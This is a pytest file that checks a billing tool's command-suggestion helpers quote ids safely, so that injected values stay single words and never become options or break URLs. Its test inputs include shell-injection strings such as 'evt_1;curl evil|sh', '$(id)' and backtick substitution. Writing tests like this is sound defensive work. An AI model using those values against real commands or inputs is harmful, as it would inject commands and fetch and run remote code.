"""A command that is suggested does what it says, whatever an id contains."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from console.pages.dead import command_of
from console.pages.story import next_steps
from ops.commands.event import next_commands
from ops.commands.find import next_of
from schemas.command_line import command
from sinks.postgres.lists.find import Hit
from sinks.postgres.outboxes import EMAILS, OUTBOXES

EVIL = ("evt_1;curl evil|sh", "$(id)", "`id`", "a b", "it's", "evt_1&all=1", "-rf", "--help", "\u202eevt", "#x", "*")


@pytest.mark.parametrize("value", EVIL)
def test_a_value_is_one_word_and_no_option(value: str) -> None:
    words = shlex.split(command("dead replay", id=value))
    assert words in (["billing", "dead", "replay", "--id", value], ["billing", "dead", "replay", f"--id={value}"])
    words = shlex.split(command("customer", value, account="acct_1"))
    assert value in words
    assert not value.startswith("-") or words[-2:] == ["--", value]


def test_plain_ids_stay_as_they_are() -> None:
    assert command("customer", "cus_1", account="acct_1") == "billing customer cus_1 --account acct_1"
    assert command("dead replay --again", id="evt_1") == "billing dead replay --again --id evt_1"
    assert command("event", "evt_1", account="") == "billing event evt_1"


@pytest.mark.parametrize("value", EVIL)
def test_everything_that_suggests_commands_quotes(value: str) -> None:
    found: dict[str, Any] = {outbox.name: [] for outbox in OUTBOXES} | {
        "event": {"outcome": "dead"},
        "dead_letters": [{"status": "open"}],
        "timers": [],
        EMAILS.name: [{"status": "failed", "last_error": None, EMAILS.key: value}],
    }
    lines = [*next_commands(value, found), *(step["command"] for step in next_steps(value, found))]
    lines.append(next_of(Hit("event", value, "", None, "")))
    lines.append(command_of("replay", {"customer": value}))
    assert len(lines) == 8
    for line in lines:
        words = shlex.split(line, comments=True)
        assert any(word in (value, f"--id={value}", f"--customer={value}") for word in words), line
    urls = [step["url"] for step in next_steps(value, found)]
    assert not any(sign in url for url in urls for sign in (";", "$(", "&all", " ", "#x"))
